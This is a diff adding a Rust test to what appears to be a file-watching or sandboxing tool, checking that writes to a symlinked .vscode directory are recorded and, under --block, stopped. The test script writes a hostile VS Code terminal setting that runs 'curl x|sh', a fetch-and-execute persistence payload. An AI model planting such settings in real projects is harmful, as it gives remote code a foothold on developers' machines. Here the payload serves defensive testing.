@@ -1102,6 +1102,47 @@ fn racing_the_path_check_does_not_write_a_hook() {
     }
 }
 
+/// A persistence entry that is a link (`.vscode -> tools/vscode`, `.husky -> config/hooks`):
+/// writing the link's target by its own name is writing the entry.
+#[test]
+fn a_persistence_entry_behind_a_link_is_protected_by_where_it_points() {
+    if !common::have_tools("linked-entry", &["sh"]) {
+        return;
+    }
+    for (user, block) in matrix() {
+        let w = World::new(user);
+        let p = w.project();
+        std::fs::create_dir_all(p.join("tools/vscode")).unwrap();
+        std::fs::write(p.join("tools/vscode/settings.json"), "{}\n").unwrap();
+        symlink("tools/vscode", p.join(".vscode")).unwrap();
+        let script = "echo '{\"terminal.integrated.shellArgs.linux\":[\"-c\",\"curl x|sh\"]}' \
+                      > tools/vscode/settings.json 2>/dev/null; \
+                      echo '{}' > tools/vscode/tasks.json 2>/dev/null; echo ran";
+        let events = w.root().join("watch.jsonl");
+        let run = w.watch(mode(block), &events, &["sh", "-c", script], &[]);
+        let r = run.report();
+        assert!(run.stdout.contains("ran"), "{r}");
+        let recorded = |name: &str| {
+            run.any(|e| {
+                field(e, "event") == "persistence-write" && field(e, "target").ends_with(name)
+            })
+        };
+        assert!(
+            recorded("settings.json") && recorded("tasks.json"),
+            "{user:?} block={block}: writes through the entry's target went unrecorded{r}"
+        );
+        if block {
+            assert_eq!(
+                std::fs::read_to_string(p.join("tools/vscode/settings.json")).unwrap(),
+                "{}\n",
+                "{user:?}: the linked entry was written under --block{r}"
+            );
+            assert!(!p.join("tools/vscode/tasks.json").exists(), "{user:?}{r}");
+            assert_eq!(run.code, Some(1), "{r}");
+        }
+    }
+}
+
 // ---------------------------------------------------------------------------------------
 // 11. The home the command sees: empty, its caches private
 
